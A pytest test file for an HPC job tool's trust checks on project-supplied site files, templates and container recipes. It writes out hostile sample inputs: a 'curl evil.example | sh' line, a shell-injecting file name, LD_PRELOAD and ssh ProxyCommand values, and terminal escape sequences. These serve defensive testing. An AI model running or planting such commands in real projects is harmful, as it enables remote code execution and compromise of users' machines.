"""What a site file that comes with somebody's repository may do before it is trusted, and after."""

from __future__ import annotations

import json
import os
import shlex
import stat
import sys
from pathlib import Path

import pytest
from commandline import await_answer, ok, start, within
from commandline import hpcjobs as run_hpcjobs
from scripted_slurm import answer

import hpcjobs
from hpcjobs.errors import ConfigError
from hpcjobs.files import state_dir
from hpcjobs.processes.programs import own_command, run
from hpcjobs.site.trust import read_trusted

SITE = "scheduler: local\npartitions: {main: {nodes: 1, node: {cpus: 64}}}\n"
EVIL = 'setup: ["touch {marker}"]\n'


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    """A file that a hostile site file would make."""
    return tmp_path / "marker"


def project(here: Path, name: str, text: str) -> Path:
    (here / "site_configs").mkdir(exist_ok=True)
    (here / "site_configs" / f"{name}.yaml").write_text(text, encoding="utf-8")
    return here / "site_configs" / f"{name}.yaml"


def test_a_file_that_shadows_the_default_site_runs_nothing_until_it_is_trusted(here: Path, marker: Path) -> None:
    evil = project(here, "local", SITE + EVIL.format(marker=marker))
    answer = within("submit", "--wait", "true")
    assert answer.code == ConfigError.exit_code
    assert f"{evil}:3: setup" in answer.err
    assert f"hpcjobs sites trust {evil}" in answer.err
    assert f"site local is {evil}, which shadows " in answer.err
    assert not marker.exists()
    assert not (here / "runs").exists()

    trusted = ok("sites", "trust").out
    assert f"touch {marker}" in trusted, "what is trusted is printed"
    ok("submit", "--wait", "true")
    assert marker.exists()


def test_the_advice_to_trust_a_file_runs_nothing_of_its_name(here: Path) -> None:
    evil = project(here, "x;id>PWNED;", SITE + 'setup: ["true"]\n')
    answer = within("submit", "--site", evil.stem, "true")
    assert f"`hpcjobs sites trust {shlex.quote(str(evil))}`" in answer.err


def test_a_dry_run_of_an_untrusted_file_prints_the_script_and_says_so(here: Path, marker: Path) -> None:
    evil = project(here, "evil", SITE + EVIL.format(marker=marker))
    for arguments in (["--dry-run"], ["--explain"], ["--dry-run", "--json"]):
        answer = ok("submit", "--site", "evil", *arguments, "true")
        assert f"site file {evil} belongs to a project and is not trusted as it is now" in answer.err
        assert "nothing of it is run" in answer.err
    assert f"touch {marker}" in ok("submit", "--site", "evil", "--dry-run", "true").out
    assert not marker.exists()


def test_a_plan_by_an_untrusted_file_cannot_be_submitted_from_python(here: Path, marker: Path) -> None:
    project(here, "evil", SITE + EVIL.format(marker=marker))
    with pytest.raises(ConfigError, match="not trusted"):
        hpcjobs.plan("true", "evil")
    with pytest.warns(UserWarning, match="not trusted"):
        plan = hpcjobs.plan("true", "evil", allow_untrusted=True)
    with pytest.raises(ConfigError, match="not trusted"):
        hpcjobs.submit(plan)
    assert not marker.exists()


def test_a_file_that_changes_must_be_trusted_anew(here: Path, marker: Path) -> None:
    path = project(here, "mine", SITE + 'setup: ["true"]\n')
    ok("sites", "trust", "mine")
    ok("submit", "--site", "mine", "--wait", "true")
    path.write_text(SITE + EVIL.format(marker=marker))
    assert "not trusted as it is now" in within("submit", "--site", "mine", "true").err
    path.write_text(SITE + 'setup: ["true"]\n')
    ok("submit", "--site", "mine", "--wait", "true")
    assert not marker.exists()


def test_trust_in_one_file_is_none_in_a_copy_of_it_and_ends_with_undo(here: Path) -> None:
    path = project(here, "mine", SITE + 'setup: ["true"]\n')
    ok("sites", "trust", str(path))
    project(here, "copy", path.read_text())
    assert within("submit", "--site", "copy", "true").code == ConfigError.exit_code
    (record,) = (state_dir() / "trusted").iterdir()
    assert list(read_trusted()) == [str(path)]
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert "no longer trusted" in ok("sites", "trust", "--undo", "mine").out
    assert within("submit", "--site", "mine", "true").code == ConfigError.exit_code


ACTING = {
    "shell lines": "setup: ['true']",
    "an image": "containers: {runtime: apptainer, default: x, images: {x: /x.sif}}",
    "the program that runs images": "containers: {program: ./apptainer}",
    "a Python": "python: ./python",
    "the Python of nodes": "node_python: ./python",
    "an environment": "environment: {venv: ./venv}",
    "an environment's initialization": "environment: {conda: x, conda_init: ./init}",
    "modules": "modules: [evil]",
    "the script that defines module": "module_init: ./init",
    "variables": "env: {LD_PRELOAD: ./evil.so}",
    "a configuration of Slurm, which names plugins": "slurm_conf: ./slurm.conf",
    "options of sbatch": "sbatch: ['bcast=x']",
    "options of srun": "srun: ['task-prolog=./evil']",
    "replaced options": "directives: {time: 'task-prolog=./evil'}",
    "the address of other ranks": "address_suffix: .example.org",
    "a login host, which ssh reads": "login: '-oProxyCommand=evil'",
    "words of a shell on the login node": "jupyter: {hpcjobs: 'evil; hpcjobs'}",
    "a rented cluster": "cloud: {provider: gcp}",
    "a burst buffer": "defaults: {bb: 'stage_out'}",
    "hosts that mpirun reaches by ssh": "defaults: {nodelist: evil.example}",
    "who gets mail": "defaults: {mail_user: me@evil.example}",
    "a folder that is written": "run_root: /tmp/elsewhere",
}


@pytest.mark.parametrize("text", ACTING.values(), ids=ACTING.keys())
def test_what_acts_needs_trust(here: Path, text: str) -> None:
    path = project(here, "evil", SITE + text + "\n")
    key = text.partition(":")[0]
    answer = within("submit", "--site", "evil", "true")
    assert answer.code == ConfigError.exit_code
    assert f"{path}:3: {key}" in answer.err
    assert not (here / "runs").exists()


def test_a_partitions_burst_buffer_needs_trust_too(here: Path) -> None:
    path = project(here, "evil", SITE.replace("cpus: 64}", "cpus: 64}, defaults: {bbf: file}"))
    assert f"{path}:2: partitions.main.defaults.bbf" in within("submit", "--site", "evil", "true").err


def test_a_file_that_only_describes_needs_no_trust(here: Path) -> None:
    project(here, "mine", SITE + "description: mine\ndefaults: {time: 1h}\nprices: {cpu_hour: 1}\n")
    answer = ok("submit", "--site", "mine", "--wait", "true")
    assert "trust" not in answer.err
    assert "nothing to trust" in ok("sites", "trust").out


def test_a_users_own_file_and_one_that_is_named_by_its_path_need_no_trust(here: Path, marker: Path) -> None:
    folder = Path.home() / ".config" / "hpcjobs" / "site_configs"
    folder.mkdir(parents=True)
    (folder / "mine.yaml").write_text(SITE + 'setup: ["true"]\n')
    (here / "other.yaml").write_text(SITE + EVIL.format(marker=marker))
    ok("submit", "--site", "mine", "--wait", "true")
    ok("submit", "--site", "./other.yaml", "--wait", "true")
    assert marker.exists()


def test_the_path_of_a_projects_file_gives_no_trust_from_another_folder_either(
    here: Path, marker: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = project(here, "evil", SITE + EVIL.format(marker=marker))
    monkeypatch.chdir(tmp_path)
    assert within("submit", "--site", str(path), "true").code == ConfigError.exit_code
    assert not marker.exists()


def test_what_a_project_extends_of_the_project_needs_trust_and_what_it_extends_of_the_user_does_not(
    here: Path, marker: Path
) -> None:
    folder = Path.home() / ".config" / "hpcjobs" / "site_configs"
    folder.mkdir(parents=True)
    (folder / "base.yaml").write_text(SITE + 'setup: ["true"]\n')
    project(here, "mine", "extends: base\ndescription: harmless\n")
    ok("submit", "--site", "mine", "--wait", "true")
    evil = project(here, "base", SITE + EVIL.format(marker=marker))
    answer = within("submit", "--site", "mine", "true")
    assert answer.code == ConfigError.exit_code
    assert f"{evil}:3: setup" in answer.err
    ok("sites", "trust", "mine")
    ok("submit", "--site", "mine", "--wait", "true")


@pytest.mark.parametrize(
    "arguments",
    [
        ["ps", "--site", "evil"],
        ["where", "--site", "evil", "true"],
        ["submit", "--site", "evil", "--test-only", "true"],
        ["alloc", "--site", "evil"],
        ["sweep", "--site", "evil", "--set", "a=1", "true"],
        ["jupyter", "--site", "evil"],
        ["jupyter", "--connect", "--site", "evil"],
        ["nodes", "--site", "evil"],
        ["drill", "kill-rank", "--site", "evil"],
        ["fabric", "--site", "evil"],
        ["report", "jobs", "--site", "evil"],
        ["container", "list", "--site", "evil"],
        ["why", "1", "--site", "evil"],
    ],
    ids=lambda arguments: " ".join(arguments[:2]),
)
def test_no_verb_uses_an_untrusted_file(here: Path, arguments: list[str]) -> None:
    """Slurm's own commands would load plugins that the file names by its ``slurm_conf``."""
    project(here, "evil", SITE.replace("local", "slurm") + "slurm_conf: ./slurm.conf\nlogin: evil.example.org\n")
    answer = within(*arguments)
    assert answer.code == ConfigError.exit_code, answer
    assert "not trusted" in answer.err


TEMPLATE = '{{% extends "shipped/job.sh.j2" %}}{{% block prologue %}}\ntouch {marker}\n{{% endblock %}}'


def template(here: Path, name: str, text: str) -> Path:
    path = here / "templates" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    "arguments",
    [
        ["submit", "--site", "local", "--wait", "true"],
        ["sweep", "--site", "local", "--set", "a=1", "--wait", "true"],
    ],
    ids=lambda arguments: arguments[0],
)
def test_a_projects_template_in_place_of_the_shipped_one_runs_nothing_until_it_is_trusted(
    here: Path, marker: Path, arguments: list[str]
) -> None:
    evil = template(here, "job.sh.j2", TEMPLATE.format(marker=marker))
    for name in ("sweep", "jupyter"):
        template(here, f"{name}.sh.j2", evil.read_text().replace("/job", f"/{name}"))
    answer = within(*arguments)
    assert answer.code == ConfigError.exit_code
    assert f"/templates/{'sweep' if arguments[0] == 'sweep' else 'job'}.sh.j2 belongs to a project" in answer.err
    assert f"hpcjobs sites trust {here}/templates/" in answer.err
    assert not marker.exists()
    assert not (here / "runs").exists()

    assert f"touch {marker}" in ok("sites", "trust").out, "what is trusted is printed"
    ok(*arguments)
    assert marker.exists()

    evil.write_text(evil.read_text() + " ")
    assert "not trusted as it is now" in within("submit", "--site", "local", "true").err


def test_what_a_trusted_template_includes_needs_trust_too(here: Path, marker: Path) -> None:
    text = '{% extends "shipped/job.sh.j2" %}{% block prologue %}{% include "part.txt" %}{% endblock %}'
    mine = template(here, "mine.sh.j2", text)
    part = template(here, "part.txt", f"touch {marker}\n")
    submit = ("submit", "--site", "local", "--template", "mine", "--wait", "true")
    ok("sites", "trust", str(mine))
    assert f"template {part} belongs to a project" in within(*submit).err
    ok("sites", "trust", "./templates/part.txt")
    ok(*submit)
    assert marker.exists()
    assert "no longer trusted" in ok("sites", "trust", "--undo", "./templates/part.txt").out
    assert within(*submit).code == ConfigError.exit_code


def test_a_dry_run_shows_what_an_untrusted_template_makes_and_such_a_plan_cannot_be_submitted(
    here: Path, marker: Path
) -> None:
    evil = template(here, "job.sh.j2", TEMPLATE.format(marker=marker))
    answer = ok("submit", "--site", "local", "--dry-run", "true")
    assert f"touch {marker}" in answer.out
    assert answer.err.count(f"template {evil} belongs to a project and is not trusted as it is now") == 1
    with pytest.raises(ConfigError, match="not trusted"):
        hpcjobs.plan("true", "local")
    with pytest.warns(UserWarning, match="not trusted"):
        plan = hpcjobs.plan("true", "local", allow_untrusted=True)
    with pytest.raises(ConfigError, match=str(evil)):
        hpcjobs.submit(plan)
    assert not (here / "runs").exists()


def test_a_users_own_templates_need_no_trust_in_their_folder_either(
    here: Path, marker: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = Path.home() / ".config" / "hpcjobs"
    template(own, "mine.sh.j2", TEMPLATE.format(marker=marker))
    ok("submit", "--site", "local", "--template", "mine", "--wait", "true")
    assert marker.exists()
    monkeypatch.chdir(own)
    ok("submit", "--site", "local", "--template", "mine", "--dry-run", "true")


def test_a_projects_recipe_is_built_by_its_name_only_when_it_is_trusted_with_the_files_it_takes_in(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", f"{here / 'bin'}:/usr/bin:/bin")
    (here / "bin").mkdir()
    (here / "bin" / "apptainer").write_text(f'#!/bin/sh\necho "$@" >>{here}/calls\nexit 3\n')
    (here / "bin" / "apptainer").chmod(0o755)
    (here / "site.yaml").write_text("scheduler: local\ncontainers: {runtime: apptainer, folder: images}\n")
    (here / "containers").mkdir()
    recipe = here / "containers" / "horovod_cpu.def"
    recipe.write_text("Bootstrap: docker\nFrom: debian:12\n\n%setup\n  touch /evil\n\n%files\n  run.sh /run.sh\n")
    (here / "containers" / "run.sh").write_text("true\n")
    build = ("container", "build", "horovod_cpu", "--site", "./site.yaml")
    for arguments in (build, (*build, "--submit")):
        answer = within(*arguments)
        assert answer.code == ConfigError.exit_code
        assert f"recipe {recipe} belongs to a project and is not trusted as it is now" in answer.err
    assert not (here / "calls").exists()

    assert "touch /evil" in ok("sites", "trust").out
    assert f"the build of {recipe} ended with 3" in within(*build).err
    assert "/horovod_cpu.def\n" in (here / "calls").read_text()

    (here / "containers" / "run.sh").write_text("curl evil.example | sh\n")
    assert "not trusted as it is now" in within(*build).err
    assert "the build of" in within("container", "build", str(recipe), "--site", "./site.yaml").err


TAKEN_IN = {
    "an image": ("Bootstrap: localimage\nFrom: ./x.sif\n", "x.sif"),
    "an image of a variable": (
        "Bootstrap: {{ kind }}\nFrom: {{ b }}\n%arguments\n  kind=localimage\n  b=x.sif\n", "x.sif"
    ),
    "an archive with a tag": ("Bootstrap: oci-archive\nFrom: ./x.tar:latest\n", "x.tar"),
    "an unpacked image": ("Bootstrap: localimage\nFrom: root\n", "root/bin/sh"),
    "a later stage's image": (
        "Bootstrap: docker\nFrom: debian:12\nStage: a\n%post\n  true\nBootstrap: localimage\nFrom: x.sif\n", "x.sif"
    ),
    "a folder": ("Bootstrap: docker\nFrom: debian:12\n%files\n  lib /lib\n", "lib/deep/run.sh"),
    "a pattern": ("Bootstrap: docker\nFrom: debian:12\n%files\n  *.sh /bin\n", "run.sh"),
    "a name in quotes": ("Bootstrap: docker\nFrom: debian:12\n%files\n  'two words.sh' /bin\n", "two words.sh"),
    "a file of a variable": (
        "Bootstrap: docker\nFrom: debian:12\n%arguments\n  f=run.sh\n%files\n  {{ f }} /b\n", "run.sh"
    ),
}  # fmt: skip


@pytest.mark.parametrize(("text", "name"), TAKEN_IN.values(), ids=TAKEN_IN.keys())
def test_a_recipe_is_trusted_with_everything_that_it_takes_in_from_this_machine(
    here: Path, text: str, name: str
) -> None:
    folder = here / "containers"
    (folder / name).parent.mkdir(parents=True)
    (folder / "mine.def").write_text(text)
    (folder / name).write_text("good")
    trusted = ok("sites", "trust").out
    assert "trusted as it is now" in trusted
    assert f"# takes in {folder / name}\n" in trusted
    assert "nothing to trust" in ok("sites", "trust").out
    (folder / name).write_text("evil")
    (here / "site.yaml").write_text("scheduler: local\ncontainers: {runtime: apptainer, folder: images}\n")
    answer = within("container", "build", "mine", "--site", "./site.yaml")
    assert (answer.code, "not trusted as it is now" in answer.err) == (ConfigError.exit_code, True), answer
    assert "trusted as it is now" in ok("sites", "trust").out


def test_a_folder_of_links_in_a_circle_ends_no_command(here: Path) -> None:
    folder = here / "containers" / "lib"
    folder.mkdir(parents=True)
    for name in "abcd":
        (folder / name).symlink_to(".")
    (folder.parent / "mine.def").write_text("Bootstrap: docker\nFrom: debian:12\n%files\n  lib /lib\n")
    assert "trusted as it is now" in ok("sites", "trust").out


def test_a_package_called_hpcjobs_in_the_current_folder_is_not_taken_for_this_one(here: Path, marker: Path) -> None:
    (here / "hpcjobs").mkdir()
    (here / "hpcjobs" / "__init__.py").write_text(f"open({str(marker)!r}, 'w')\n")
    assert hpcjobs.__version__ in run(own_command("--version")).out
    (here / "site.yaml").write_text("scheduler: local\ncontainers: {runtime: apptainer, folder: images}\n")
    script = ok("container", "build", "pytorch", "--site", "./site.yaml", "--submit", "--dry-run").out
    assert shlex.join(own_command("container", "build", "pytorch")) in script
    if sys.version_info >= (3, 11):
        ok("submit", "--site", "local", "--wait", "true")
    assert not marker.exists()


def test_what_a_trusted_file_says_to_the_terminal_is_not_obeyed(here: Path) -> None:
    template(here, "mine.sh.j2", "#!/bin/bash\nevil\x1b[2K\x1b[1A\n")
    shown = ok("sites", "trust").out
    assert "evil?[2K?[1A" in shown
    assert "\x1b" not in shown


def test_the_description_of_a_projects_site_says_nothing_to_the_terminal(here: Path) -> None:
    project(here, "evil", SITE + 'description: "\\e]0;title\\aours"\n')
    out = ok("sites").out
    assert "ours" in out
    assert not {"\x1b", "\x07"} & {*out}


def test_the_list_of_sites_marks_what_is_not_trusted(here: Path) -> None:
    path = project(here, "mine", SITE + 'setup: ["true"]\n')
    assert f"{path} (not trusted)" in ok("sites").out
    rows = {row["name"]: row for row in ok("sites", "--json").json}
    assert rows["mine"]["untrusted"] == [f"{path}:3: setup"]
    ok("sites", "trust", "mine")
    assert "(not trusted)" not in ok("sites").out


def test_files_that_are_trusted_at_the_same_time_are_all_trusted(here: Path, marker: Path) -> None:
    files = [project(here, f"file{n}", SITE + EVIL.format(marker=marker)) for n in range(8)]
    trusting = [start("sites", "trust", str(path)) for path in files]
    for process in trusting:
        ended = await_answer(process, timeout_s=120)
        assert ended.code == 0, ended
    assert len(read_trusted()) == len(files)


def test_a_damaged_record_of_trust_trusts_nothing(here: Path, marker: Path) -> None:
    project(here, "evil", SITE + EVIL.format(marker=marker))
    (state_dir() / "trusted").mkdir(parents=True)
    (state_dir() / "trusted" / "other.jsonl").write_text("{")
    answer = within("submit", "--site", "evil", "true")
    assert answer.code == ConfigError.exit_code
    assert "the record of trusted site files cannot be read" in answer.err


def test_a_run_folder_of_a_repository_names_no_configuration_of_slurm(
    here: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It would name the plugins that Slurm's commands load."""
    folder = here / "runs" / "evil"
    folder.mkdir(parents=True)
    job: dict[str, object] = {"job_id": "42", "name": "evil", "site": "evil", "scheduler": "slurm"}
    job |= {"run_dir": str(folder), "submitted": 1e9, "slurm_conf": str(here / "evil.conf")}
    (folder / "submitted.json").write_text(json.dumps(job))
    (here / "evil.conf").write_text("PluginDir=.\n")
    answers = tmp_path / "slurm"
    answers.mkdir()
    for command in ("squeue", "sacct", "scontrol"):
        answer(answers, command, f'echo "conf=$SLURM_CONF" >>{answers}/seen; exit 1')
    monkeypatch.setenv("PATH", f"{answers}:/usr/bin:/bin")
    within("show", "./runs/evil")
    within("why", "./runs/evil")
    assert {*(answers / "seen").read_text().split()} == {"conf="}
    monkeypatch.setenv("SLURM_CONF", str(here / "evil.conf"))
    within("show", "./runs/evil")
    assert f"conf={here}/evil.conf" in (answers / "seen").read_text(), "the user names it"


@pytest.mark.parametrize("name", ["site_configs", "templates", "containers"])
def test_a_folder_that_is_a_link_to_itself_ends_no_command(here: Path, name: str) -> None:
    (here / name).symlink_to(here / name)
    ok("submit", "--site", "local", "--dry-run", "true")
    ok("sites")
    assert "nothing to trust" in ok("sites", "trust").out


@pytest.mark.parametrize("kind", ["pipe", "huge", "whole machine", "memory", "huge file"])
def test_a_recipe_of_a_project_that_cannot_be_one_stops_no_verb(here: Path, kind: str) -> None:
    (here / "containers").mkdir()
    recipe = here / "containers" / "x.def"
    source = {"whole machine": "/", "memory": "/proc/self/mem", "huge file": "big"}.get(kind, "")
    recipe.write_text(f"Bootstrap: docker\nFrom: debian:12\n\n%files\n  {source} /x\n")
    if kind == "pipe":
        recipe.unlink()
        os.mkfifo(recipe)
    elif kind == "huge":
        os.truncate(recipe, 20 << 30)
    (recipe.parent / "big").touch()
    os.truncate(recipe.parent / "big", 400 << 30)
    (here / "site.yaml").write_text("scheduler: local\ncontainers: {runtime: apptainer, folder: images}\n")
    site = ("--site", "./site.yaml")
    build = ("container", "build", "x", *site)
    trust = [("sites", "trust", str(recipe))] if kind != "huge file" else []  # its content is what is trusted
    for verb in (("container", "list", *site), build, (*build, "--dry-run"), *trust):
        answer = run_hpcjobs(*verb, timeout_s=60)
        assert answer.code in (0, ConfigError.exit_code), answer
        if answer.code:
            assert str(recipe) in answer.err
        if verb == build and kind not in ("pipe", "huge"):
            assert "is not trusted as it is now" in answer.err, "before what it takes in is looked at"


@pytest.mark.parametrize("verb", ["sites trust", "submit --site local true", "submit --site local --dry-run true"])
def test_a_huge_template_is_refused_before_it_is_trusted(here: Path, verb: str) -> None:
    huge = template(here, "job.sh.j2", "")
    os.truncate(huge, 20 << 30)
    answer = run_hpcjobs(*verb.split(), timeout_s=60)
    assert (answer.code, f"template {huge}: cannot be read: larger than 64 MiB" in answer.err) == (4, True), answer


def test_a_template_with_the_line_ends_of_windows_can_be_trusted(here: Path, marker: Path) -> None:
    mine = template(here, "mine.sh.j2", "")
    mine.write_bytes(TEMPLATE.format(marker=marker).replace("\n", "\r\n").encode())
    ok("sites", "trust")
    ok("submit", "--site", "local", "--template", "mine", "--wait", "true")
    assert marker.exists()
